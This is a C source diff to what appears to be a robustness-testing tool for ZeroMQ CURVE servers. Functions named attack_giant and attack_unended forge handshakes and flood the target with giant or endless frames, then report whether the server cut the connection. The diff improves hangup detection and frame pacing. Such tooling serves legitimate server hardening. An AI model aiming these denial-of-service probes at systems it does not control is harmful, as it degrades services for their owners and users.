@@ -3,6 +3,8 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <poll.h>
 #include <sodium.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -13,17 +15,19 @@
 
 /* Where ZeroMQ is too polite: ZMTP 3.0 and CURVE (RFC 26) by hand. */
 
-enum { UNENDED_MAX_MIB = 1024, GREETING = 64, COOKIE = 96, METADATA_MAX = 200 };
+enum { UNENDED_MAX_MIB = 1024, ALONE_MAX = 100, GREETING = 64, COOKIE = 96, METADATA_MAX = 200 };
 
 static int dial(const struct target *target)
 {
     struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(target->port)};
     const struct timeval deadline = {.tv_sec = DEADLINE_MS / 1000};
     const int fd = socket(AF_INET, SOCK_STREAM, 0);
+    const int yes = 1; /* small frames go out as they are */
     /* the cast is how POSIX wants it */
     if (inet_pton(AF_INET, target->host, &address.sin_addr) != 1 || fd < 0 ||
         setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &deadline, sizeof deadline) != 0 ||
         setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &deadline, sizeof deadline) != 0 ||
+        setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &yes, sizeof yes) != 0 ||
         connect(fd, (const struct sockaddr *)&address, sizeof address) != 0)
         give_up("no TCP connection");
     return fd;
@@ -33,6 +37,24 @@ static void write_all(int fd, const void *bytes, size_t size)
 {
     if (send(fd, bytes, size, MSG_NOSIGNAL) != (ssize_t)size)
         give_up("cut while writing");
+}
+
+/* False when we are cut: the other end does not listen any more, whatever our kernel still takes. */
+static bool write_some(int fd, const uint8_t *bytes, size_t size)
+{
+    size_t sent = 0;
+    while (sent < size) {
+        struct pollfd item = {.fd = fd, .events = POLLOUT | POLLRDHUP};
+        if (poll(&item, 1, DEADLINE_MS) <= 0)
+            give_up("neither taken nor cut");
+        if ((item.revents & (POLLRDHUP | POLLHUP | POLLERR)) != 0)
+            return false;
+        const ssize_t count = send(fd, bytes + sent, size - sent, MSG_NOSIGNAL | MSG_DONTWAIT);
+        if (count < 0 && errno != EAGAIN)
+            return false;
+        sent += count > 0 ? (size_t)count : 0;
+    }
+    return true;
 }
 
 /* False when the other end has cut us before. */
@@ -75,14 +97,13 @@ void attack_giant(const struct target *target)
     uint8_t header[9] = {0x06}; /* a long command */
     const int fd = dial(target);
     uint64_t sent = 0;
-    ssize_t count = 0;
     make_greeting(greeting, 3, "CURVE");
     ys_be64_put(header + 1, giant);
     write_all(fd, greeting, sizeof greeting);
     write_all(fd, header, sizeof header);
-    while (sent < giant && (count = send(fd, filling, sizeof filling, MSG_NOSIGNAL)) > 0)
-        sent += (uint64_t)count;
-    printf("%s after %llu MiB\n", sent < giant && errno != EAGAIN ? "CUT" : "NOT CUT",
+    while (sent < giant && write_some(fd, filling, sizeof filling))
+        sent += sizeof filling;
+    printf("%s after %llu MiB\n", sent < giant ? "CUT" : "NOT CUT",
            (unsigned long long)(sent >> 20));
 }
 
@@ -132,6 +153,7 @@ struct forger {
     uint8_t secret[YS_SEED_LEN], public_key[YS_PUBKEY_LEN]; /* what it is let in with */
     uint8_t short_secret[YS_SEED_LEN], short_public[YS_PUBKEY_LEN];
     uint8_t server_short[YS_PUBKEY_LEN];
+    uint8_t shared[crypto_box_BEFORENMBYTES]; /* of messages */
 };
 
 static void box(uint8_t *out, const void *plain, size_t size, const char *prefix,
@@ -202,6 +224,7 @@ static void say_initiate(const struct forger *forger, const struct target *targe
 static bool say_frame(const struct forger *forger, struct ys_bytes bytes, bool more)
 {
     static uint64_t nonce = 2;
+    uint8_t nonce_bytes[crypto_box_NONCEBYTES];
     static uint8_t plain[1 + FRAME_ROOM];
     static uint8_t frame[9 + 32 + sizeof plain];
     plain[0] = more ? 1 : 0;
@@ -212,9 +235,12 @@ static bool say_frame(const struct forger *forger, struct ys_bytes bytes, bool m
     ys_be64_put(frame + 1, size);
     memcpy(frame + 9, "\7MESSAGE", 8);
     ys_be64_put(frame + 17, ++nonce);
-    box(frame + 25, plain, 1 + bytes.size, "CurveZMQMESSAGEC", frame + 17, forger->server_short,
-        forger->short_secret);
-    return send(forger->fd, frame, 9 + size, MSG_NOSIGNAL) == (ssize_t)(9 + size);
+    memcpy(nonce_bytes, "CurveZMQMESSAGEC", 16);
+    memcpy(nonce_bytes + 16, frame + 17, 8);
+    if (crypto_box_easy_afternm(frame + 25, plain, 1 + bytes.size, nonce_bytes, forger->shared) !=
+        0)
+        give_up("box");
+    return write_some(forger->fd, frame, 9 + size);
 }
 
 /* False when it is not let in. */
@@ -239,6 +265,8 @@ static bool shake_hands(struct forger *forger, const struct target *target, cons
     say_hello(forger, target);
     hear_welcome(forger, target, cookie);
     say_initiate(forger, target, cookie, metadata, (size_t)size);
+    if (crypto_box_beforenm(forger->shared, forger->server_short, forger->short_secret) != 0)
+        give_up("key");
     return read_all(forger->fd, answer, sizeof answer) && answer[0] == 0x04 &&
            read_all(forger->fd, ready, answer[1]) && memcmp(ready, "\5READY", 6) == 0;
 }
@@ -282,8 +310,13 @@ void attack_unended(const struct target *target, bool greet, size_t size)
         (void)say_frame(&forger, (struct ys_bytes){talk.message[0].data, talk.message[0].size},
                         false);
     while (sent >> 20 < UNENDED_MAX_MIB &&
-           say_frame(&forger, (struct ys_bytes){filling, size}, true))
+           say_frame(&forger, (struct ys_bytes){filling, size}, true)) {
         sent += size + 42;
+        /* So slow that each small frame is read alone: 0.1 ms of work. */
+        if (size < ALONE_MAX &&
+            crypto_box_beforenm(forger.shared, forger.server_short, forger.short_secret) != 0)
+            give_up("key");
+    }
     printf("%s after %llu MiB\n", sent >> 20 < UNENDED_MAX_MIB ? "CUT" : "NOT CUT",
            (unsigned long long)(sent >> 20));
 }
